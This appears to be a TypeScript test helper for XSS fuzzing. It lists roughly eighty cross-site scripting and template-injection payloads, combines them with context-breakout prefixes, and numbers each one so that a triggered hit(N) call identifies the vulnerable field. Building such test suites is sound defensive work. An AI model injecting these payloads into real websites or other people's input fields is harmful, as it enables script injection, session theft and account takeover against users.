// Text that would execute wherever it is not treated as plain text. If it runs, it calls hit(number).

const VECTORS = [
  '<script>hit(N)</script>',
  '<ScRiPt>hit(N)</sCrIpT>',
  '<script/x>hit(N)</script>',
  '<script>hit(N)//',
  '<<script>hit(N)</script>',
  '</script><script>hit(N)</script>',
  '<svg><script>hit(N)</script>',
  '<svg/onload=hit(N)>',
  '<svg onload=hit(N)//',
  '<img src=x onerror=hit(N)>',
  '<img/src/onerror=hit(N)>',
  '<IMG SRC=x ONERROR=hit(N)>',
  "<img src=x onerror='hit(N)'",
  '<img src=x onerror=hit&lpar;N)>',
  '<image src=x onerror=hit(N)>',
  '<body onload=hit(N)>',
  '<body onpageshow=hit(N)>',
  '<iframe onload=hit(N)>',
  '<iframe src=javascript:hit(N)>',
  '<iframe srcdoc="<img src=x onerror=hit(N)>">',
  '<object data=javascript:hit(N)>',
  '<embed src=javascript:hit(N)>',
  '<video src=x onerror=hit(N)>',
  '<video><source onerror=hit(N)>',
  '<audio src=x onerror=hit(N)>',
  '<input autofocus onfocus=hit(N)>',
  '<select autofocus onfocus=hit(N)>',
  '<textarea autofocus onfocus=hit(N)>',
  '<button autofocus onfocus=hit(N)>',
  '<keygen autofocus onfocus=hit(N)>',
  '<isindex type=image src=x onerror=hit(N)>',
  '<details open ontoggle=hit(N)>',
  '<marquee onstart=hit(N)>',
  '<style onload=hit(N)></style>',
  "<style>@import'javascript:hit(N)'</style>",
  '<link rel=stylesheet href=x onerror=hit(N)>',
  '<meta http-equiv=refresh content=0;url=javascript:hit(N)>',
  '<base href=javascript:hit(N)//>',
  '<a href=javascript:hit(N)>x</a>',
  '<a href=JaVaScRiPt:hit(N)>x</a>',
  '<a href="java\tscript:hit(N)">x',
  '<a href=&#106;avascript:hit(N)>x',
  '<form action=javascript:hit(N)><button>',
  '<button formaction=javascript:hit(N)>x',
  '<math href=javascript:hit(N)>x',
  '<svg><a xlink:href=javascript:hit(N)>x',
  '<svg><animate onbegin=hit(N) attributeName=x>',
  '<svg><set onbegin=hit(N)>',
  '<svg><use href="data:image/svg+xml,<svg onload=hit(N)>">',
  '<p onmouseover=hit(N)>x</p>',
  '<x onclick=hit(N)>x',
  '<x contenteditable onblur=hit(N)>x',
  '<div style=animation-name:x onanimationstart=hit(N)>',
  '<template><img src=x onerror=hit(N)>',
  '<noscript><img src=x onerror=hit(N)>',
  '<table background=javascript:hit(N)>',
  '<!--><img src=x onerror=hit(N)>-->',
  '<![CDATA[<img src=x onerror=hit(N)>]]>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit(N)>',
  '<svg></p><style><a id="</style><img src=x onerror=hit(N)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(N)>',
  'javascript:hit(N)',
  'vbscript:hit(N)',
  'data:text/html,<script>hit(N)</script>',
  '&lt;img src=x onerror=hit(N)&gt;',
  '&#60;img src=x onerror=hit(N)&#62;',
  '\\u003cimg src=x onerror=hit(N)\\u003e',
  '%3Cimg%20src=x%20onerror=hit(N)%3E',
  '＜script＞hit(N)＜/script＞',
  '+ADw-script+AD4-hit(N)+ADw-/script+AD4-',
  "{{constructor.constructor('hit(N)')()}}",
  '$' + '{hit(N)}',
  '#{hit(N)}',
  '<%= hit(N) %>',
  "';hit(N);'",
  '";hit(N);"',
  '`-hit(N)-`',
  'expression(hit(N))',
  'url(javascript:hit(N))',
  '[x](javascript:hit(N))',
]

/** The context a payload has to break out of. */
const CONTEXTS = ['', '">', "'>", '</title>', '</textarea>', '</style>', '-->', '"/ ']

const COMBINATIONS = CONTEXTS.flatMap((context) => VECTORS.map((vector) => context + vector))

/** Returns payloads in turn, each with its own number; combinations repeat only after all were used. */
export function makePayloads() {
  const given: string[] = []
  const left: string[] = []
  function nextOf(isAllowed: (text: string) => boolean): string {
    const number = String(given.length + 1)
    const payloadOf = (text: string) => text.replace(/\bN\b/, number)
    const isUsable = (text: string) => isAllowed(payloadOf(text))
    if (!left.some(isUsable)) left.push(...COMBINATIONS)
    const [text = ''] = left.splice(left.findIndex(isUsable), 1)
    const payload = payloadOf(text)
    given.push(payload)
    return payload
  }
  return {
    given,
    /** The next one that fits into a field of this length. */
    next: (maximum: number) => nextOf(({ length }) => length <= maximum),
    /** For names, which may not contain links: an email program makes one of a period between letters. */
    nextName: (maximum: number) => nextOf((text) => text.length <= maximum && !text.includes('.')),
    all: () => VECTORS.map((vector, n) => vector.replace(/\bN\b/, String(10_000 + n))),
  }
}
export type Payloads = ReturnType<typeof makePayloads>
